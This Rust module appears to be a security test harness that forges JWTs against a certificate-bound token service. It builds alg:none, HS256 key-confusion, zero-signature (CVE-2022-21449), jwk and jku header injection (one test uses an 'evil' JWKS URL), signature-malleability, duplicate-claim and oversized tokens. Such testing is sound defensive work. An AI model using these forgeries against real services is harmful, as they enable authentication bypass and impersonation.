//! Attack token crafting: compact JWS built by hand so each attack changes exactly one thing —
//! `alg: none`, HS256 keyed with the public key, the psychic signature, an attacker's key under
//! the real `kid`, injected `jwk`/`jku`, raw duplicate claims, oversized tokens — and, for the
//! rows that isolate one claim check, tokens signed with the authz-server's real key (an insider).

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use certbind_core::binding::{CertThumbprint, cert_pem_to_der, ec_p256_jwk_thumbprint};
use p256::ecdsa::signature::Signer;
use p256::ecdsa::{Signature, SigningKey};
use p256::pkcs8::{DecodePrivateKey, EncodePublicKey, LineEnding};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::fmt;
use std::path::Path;
use std::time::{SystemTime, UNIX_EPOCH};

/// Why a token could not be built.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgeError(pub String);

impl fmt::Display for ForgeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "forge: {}", self.0)
    }
}

impl std::error::Error for ForgeError {}

/// base64url without padding (JWS encoding).
pub fn b64url(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// Seconds since the Unix epoch.
pub fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

/// 128 random bits, base64url: a fresh `jti` (also a unique path segment).
pub fn random_id() -> Result<String, ForgeError> {
    let mut bytes = [0u8; 16];
    getrandom::fill(&mut bytes).map_err(|e| ForgeError(format!("getrandom: {e}")))?;
    Ok(b64url(bytes))
}

/// `spiffe://certbind.test/ns/demo/sa/<name>` (CONTRACT §2).
pub fn spiffe_id(name: &str) -> String {
    format!("spiffe://certbind.test/ns/demo/sa/{name}")
}

/// An EC P-256 signing key and the `kid` it signs under.
#[derive(Clone)]
pub struct EcKey {
    kid: String,
    key: SigningKey,
}

impl fmt::Debug for EcKey {
    // Never print the private scalar.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "EcKey({})", self.kid)
    }
}

impl EcKey {
    /// A fresh random key (the attacker's); `kid` is its RFC 7638 thumbprint.
    pub fn generate() -> Result<Self, ForgeError> {
        for _ in 0..16 {
            let mut bytes = [0u8; 32];
            getrandom::fill(&mut bytes).map_err(|e| ForgeError(format!("getrandom: {e}")))?;
            if let Ok(key) = SigningKey::from_slice(&bytes) {
                return Self::from_signing(key);
            }
        }
        Err(ForgeError("no valid P-256 scalar after 16 tries".into()))
    }

    /// A PKCS#8 PEM file, e.g. the authz-server's `<state-dir>/keys/<kid>.pem`.
    pub fn from_pkcs8_pem_file(path: &Path) -> Result<Self, ForgeError> {
        let pem = std::fs::read_to_string(path)
            .map_err(|e| ForgeError(format!("reading {}: {e}", path.display())))?;
        let key = SigningKey::from_pkcs8_pem(&pem)
            .map_err(|e| ForgeError(format!("{}: not a P-256 PKCS#8 key: {e}", path.display())))?;
        Self::from_signing(key)
    }

    fn from_signing(key: SigningKey) -> Result<Self, ForgeError> {
        let (x, y) = coordinates(&key)?;
        Ok(Self {
            kid: ec_p256_jwk_thumbprint(&x, &y),
            key,
        })
    }

    /// The same key claiming another `kid` (the authz-server's real one, say).
    pub fn with_kid(mut self, kid: &str) -> Self {
        kid.clone_into(&mut self.kid);
        self
    }

    pub fn kid(&self) -> &str {
        &self.kid
    }

    /// The public JWK, for `jwk` header injection.
    pub fn public_jwk(&self) -> Result<Value, ForgeError> {
        let (x, y) = coordinates(&self.key)?;
        Ok(
            json!({"kty": "EC", "crv": "P-256", "x": x, "y": y, "kid": self.kid,
                  "use": "sig", "alg": "ES256"}),
        )
    }

    /// ES256 over `message`: the raw 64-byte `r‖s` of JWS.
    pub fn sign(&self, message: &[u8]) -> Vec<u8> {
        let signature: Signature = self.key.sign(message);
        signature.to_bytes().to_vec()
    }
}

fn coordinates(key: &SigningKey) -> Result<(String, String), ForgeError> {
    let point = key.verifying_key().to_sec1_point(false);
    match (point.x(), point.y()) {
        (Some(x), Some(y)) => Ok((b64url(x), b64url(y))),
        _ => Err(ForgeError("public key has no affine coordinates".into())),
    }
}

/// The SPKI PEM of a published JWK (`kty: EC`, `crv: P-256`): what a key-confusion attacker
/// feeds to HMAC, because that is what a confused verifier would use as the "key".
pub fn jwk_public_pem(jwk: &Value) -> Result<String, ForgeError> {
    let coordinate = |name: &str| {
        jwk.get(name)
            .and_then(Value::as_str)
            .ok_or_else(|| ForgeError(format!("JWK without `{name}`")))
    };
    let key = certbind_core::jwks::ec_p256_key(coordinate("x")?, coordinate("y")?)
        .ok_or_else(|| ForgeError("JWK is not a P-256 point".into()))?;
    key.to_public_key_pem(LineEnding::LF)
        .map_err(|e| ForgeError(format!("encoding the public key: {e}")))
}

/// The standard access-token header `{"alg":"ES256","typ":"at+jwt","kid":...}`.
pub fn header(kid: &str) -> Value {
    json!({"alg": "ES256", "typ": "at+jwt", "kid": kid})
}

/// `header.claims.signature` from exact JSON texts and any signature bytes.
pub fn assemble(header_json: &str, claims_json: &str, signature: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        b64url(header_json),
        b64url(claims_json),
        b64url(signature)
    )
}

/// An ES256 JWS over exact JSON texts (duplicate keys and other raw tricks survive).
pub fn es256_raw(header_json: &str, claims_json: &str, key: &EcKey) -> String {
    let input = format!("{}.{}", b64url(header_json), b64url(claims_json));
    let signature = key.sign(input.as_bytes());
    format!("{input}.{}", b64url(signature))
}

/// The order of P-256's base point, big-endian.
const P256_N: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// The same ES256 token with its signature's `s` replaced by `n - s`: a second valid signature
/// over the same bytes (ECDSA malleability), so a different token string for the same token.
/// A revocation keyed on token bytes would miss it; certbind's is keyed on `jti`.
pub fn high_s_twin(token: &str) -> Result<String, ForgeError> {
    let bad = || ForgeError("not an ES256 compact JWS".into());
    let (signed, sig) = token.rsplit_once('.').ok_or_else(bad)?;
    let mut sig = URL_SAFE_NO_PAD.decode(sig).map_err(|_| bad())?;
    if sig.len() != 64 {
        return Err(bad());
    }
    let s = sig.get_mut(32..).ok_or_else(bad)?;
    let mut borrow = 0i16;
    for (digit, n) in s.iter_mut().rev().zip(P256_N.iter().rev()) {
        let d = i16::from(*n) - i16::from(*digit) - borrow;
        borrow = i16::from(d < 0);
        *digit = u8::try_from(d + 256 * borrow).map_err(|_| bad())?;
    }
    Ok(format!("{signed}.{}", b64url(&sig)))
}

/// An ES256 JWS of `header` and `claims` signed by `key`.
pub fn es256(header: &Value, claims: &Value, key: &EcKey) -> String {
    es256_raw(&header.to_string(), &claims.to_string(), key)
}

/// `alg: none` with an empty signature (RFC 7519 §6 unsecured JWT).
pub fn alg_none(kid: &str, claims: &Value) -> String {
    let header = json!({"alg": "none", "typ": "at+jwt", "kid": kid});
    assemble(&header.to_string(), &claims.to_string(), b"")
}

/// HS256 keyed with `secret` (the verifier's *public* key): the algorithm-confusion attack.
pub fn hs256(kid: &str, claims: &Value, secret: &[u8]) -> String {
    let header = json!({"alg": "HS256", "typ": "at+jwt", "kid": kid});
    let input = format!(
        "{}.{}",
        b64url(header.to_string()),
        b64url(claims.to_string())
    );
    let mac = hmac_sha256(secret, input.as_bytes());
    format!("{input}.{}", b64url(mac))
}

/// ES256 with r = s = 0, which a verifier that skips the range check accepts for any message
/// (CVE-2022-21449).
pub fn psychic(kid: &str, claims: &Value) -> String {
    assemble(&header(kid).to_string(), &claims.to_string(), &[0u8; 64])
}

/// Signed by the attacker's key, whose public half rides along in a `jwk` header under the
/// real `kid` (CVE-2018-0114): a verifier that trusts the embedded key accepts it.
pub fn jwk_injection(
    real_kid: &str,
    claims: &Value,
    attacker: &EcKey,
) -> Result<String, ForgeError> {
    let mut header = header(real_kid);
    header["jwk"] = attacker.public_jwk()?;
    Ok(es256(&header, claims, attacker))
}

/// Signed by the attacker's key, with `jku` pointing at the attacker's own JWKS.
pub fn jku_injection(jku: &str, claims: &Value, attacker: &EcKey) -> String {
    let mut header = header(attacker.kid());
    header["jku"] = Value::String(jku.to_owned());
    es256(&header, claims, attacker)
}

/// A token of at least `min_len` bytes: the claims carry padding, signed by `key`.
pub fn oversized(claims: &Value, key: &EcKey, min_len: usize) -> String {
    let mut claims = claims.clone();
    // base64url grows 4/3; a little extra makes sure the whole token passes `min_len`.
    claims["pad"] = Value::String("A".repeat(min_len * 3 / 4 + 16));
    es256(&header(key.kid()), &claims, key)
}

/// The claims' JSON text with `name` appearing twice: first `first`, then the value the claims
/// already carry (a parser that keeps the last one sees the original).
pub fn duplicate_claim(claims: &Value, name: &str, first: &Value) -> Result<String, ForgeError> {
    let text = claims.to_string();
    let body = text
        .strip_prefix('{')
        .ok_or_else(|| ForgeError("claims are not a JSON object".into()))?;
    Ok(format!(
        "{{{}:{first},{body}",
        Value::String(name.to_owned())
    ))
}

/// HMAC-SHA256 (RFC 2104), for the HS256 confusion token.
pub fn hmac_sha256(key: &[u8], message: &[u8]) -> [u8; 32] {
    const BLOCK: usize = 64;
    let mut block = [0u8; BLOCK];
    if key.len() > BLOCK {
        block[..32].copy_from_slice(&Sha256::digest(key));
    } else {
        block[..key.len()].copy_from_slice(key);
    }
    let pad = |byte: u8| block.map(|b| b ^ byte);
    let inner = Sha256::new()
        .chain_update(pad(0x36))
        .chain_update(message)
        .finalize();
    Sha256::new()
        .chain_update(pad(0x5c))
        .chain_update(inner)
        .finalize()
        .into()
}

/// `cnf."x5t#S256"` of a PEM certificate file: what a token bound to its holder carries.
pub fn cert_thumbprint(cert_pem: &Path) -> Result<String, ForgeError> {
    let pem = std::fs::read_to_string(cert_pem)
        .map_err(|e| ForgeError(format!("reading {}: {e}", cert_pem.display())))?;
    let der =
        cert_pem_to_der(&pem).map_err(|e| ForgeError(format!("{}: {e}", cert_pem.display())))?;
    Ok(CertThumbprint::from_der(&der).to_cnf())
}

/// The (unverified) JSON of part `index` of a compact JWS: 0 header, 1 claims.
pub fn decode_part(token: &str, index: usize) -> Result<Value, ForgeError> {
    let part = token
        .split('.')
        .nth(index)
        .ok_or_else(|| ForgeError("not a compact JWS".into()))?;
    let bytes = URL_SAFE_NO_PAD
        .decode(part)
        .map_err(|e| ForgeError(format!("part {index}: {e}")))?;
    serde_json::from_slice(&bytes).map_err(|e| ForgeError(format!("part {index}: {e}")))
}

/// The claims the authz-server issues to `client` for `service` with `scope` (CONTRACT §3),
/// bound to `cnf` (the thumbprint of the client's certificate), valid from now for 300 s.
pub fn claims(
    issuer: &str,
    client: &str,
    service: &str,
    scope: &str,
    cnf: &str,
) -> Result<Value, ForgeError> {
    let now = now();
    Ok(json!({
        "iss": issuer,
        "sub": spiffe_id(client),
        "client_id": client,
        "aud": spiffe_id(service),
        "scope": scope,
        "iat": now,
        "nbf": now,
        "exp": now + 300,
        "jti": random_id()?,
        "cnf": {"x5t#S256": cnf},
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use p256::ecdsa::signature::Verifier;

    fn verify(token: &str, key: &EcKey) -> bool {
        let (input, sig) = token.rsplit_once('.').unwrap();
        let sig = Signature::from_slice(&URL_SAFE_NO_PAD.decode(sig).unwrap()).unwrap();
        key.key
            .verifying_key()
            .verify(input.as_bytes(), &sig)
            .is_ok()
    }

    #[test]
    fn es256_tokens_verify_with_their_key_only() {
        let key = EcKey::generate().unwrap();
        let other = EcKey::generate().unwrap();
        let token = es256(&header(key.kid()), &json!({"sub": "x"}), &key);
        assert!(verify(&token, &key));
        assert!(!verify(&token, &other));
        assert_eq!(decode_part(&token, 0).unwrap()["kid"], key.kid());
        assert_eq!(decode_part(&token, 1).unwrap()["sub"], "x");
    }

    #[test]
    fn hmac_matches_rfc4231_test_case_2() {
        let mac = hmac_sha256(b"Jefe", b"what do ya want for nothing?");
        assert_eq!(
            b64url(mac),
            b64url([
                0x5b, 0xdc, 0xc1, 0x46, 0xbf, 0x60, 0x75, 0x4e, 0x6a, 0x04, 0x24, 0x26, 0x08, 0x95,
                0x75, 0xc7, 0x5a, 0x00, 0x3f, 0x08, 0x9d, 0x27, 0x39, 0x83, 0x9d, 0xec, 0x58, 0xb9,
                0x64, 0xec, 0x38, 0x43
            ])
        );
    }

    #[test]
    fn hmac_hashes_keys_longer_than_a_block() {
        // RFC 4231 test case 6: a 131-byte key of 0xaa.
        let mac = hmac_sha256(
            &[0xaa; 131],
            b"Test Using Larger Than Block-Size Key - Hash Key First",
        );
        assert_eq!(
            mac[..4],
            [0x60, 0xe4, 0x31, 0x59],
            "first bytes of the RFC 4231 answer"
        );
    }

    #[test]
    fn attack_headers_say_what_the_attack_needs() {
        let attacker = EcKey::generate().unwrap();
        let c = json!({"sub": "x"});
        assert_eq!(decode_part(&alg_none("k", &c), 0).unwrap()["alg"], "none");
        assert!(alg_none("k", &c).ends_with('.'));
        assert_eq!(
            decode_part(&hs256("k", &c, b"pem"), 0).unwrap()["alg"],
            "HS256"
        );
        let psychic = psychic("k", &c);
        assert_eq!(psychic.rsplit('.').next().unwrap(), b64url([0u8; 64]));
        let jwk = jwk_injection("real", &c, &attacker).unwrap();
        let h = decode_part(&jwk, 0).unwrap();
        assert_eq!(
            (h["kid"].as_str(), h["jwk"]["kty"].as_str()),
            (Some("real"), Some("EC"))
        );
        assert!(verify(&jwk, &attacker));
        let jku = decode_part(&jku_injection("https://evil/jwks", &c, &attacker), 0).unwrap();
        assert_eq!(jku["jku"], "https://evil/jwks");
        assert!(oversized(&c, &attacker, 16 * 1024).len() >= 16 * 1024);
    }

    #[test]
    fn duplicate_claims_keep_both_values_in_the_signed_text() {
        let claims = json!({"sub": "real", "aud": "a"});
        let text = duplicate_claim(&claims, "sub", &json!("first")).unwrap();
        assert_eq!(text.matches("\"sub\"").count(), 2);
        assert!(text.starts_with(r#"{"sub":"first","#));
        // A lenient parser keeps the last value; that is the differential the attack probes.
        let parsed: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(parsed["sub"], "real");
    }

    #[test]
    fn public_pem_comes_from_a_published_jwk() {
        let key = EcKey::generate().unwrap();
        let pem = jwk_public_pem(&key.public_jwk().unwrap()).unwrap();
        assert!(pem.starts_with("-----BEGIN PUBLIC KEY-----"));
        assert!(jwk_public_pem(&json!({"kty": "EC", "x": "AA", "y": "AA"})).is_err());
        assert!(jwk_public_pem(&json!({"kty": "EC"})).is_err());
    }

    #[test]
    fn claims_follow_the_contract_shape() {
        let c = claims("https://iss", "consumer", "orders", "orders:read", "tp").unwrap();
        assert_eq!(c["sub"], "spiffe://certbind.test/ns/demo/sa/consumer");
        assert_eq!(c["aud"], "spiffe://certbind.test/ns/demo/sa/orders");
        assert_eq!(c["cnf"]["x5t#S256"], "tp");
        assert_eq!(c["exp"].as_u64().unwrap() - c["iat"].as_u64().unwrap(), 300);
    }
}
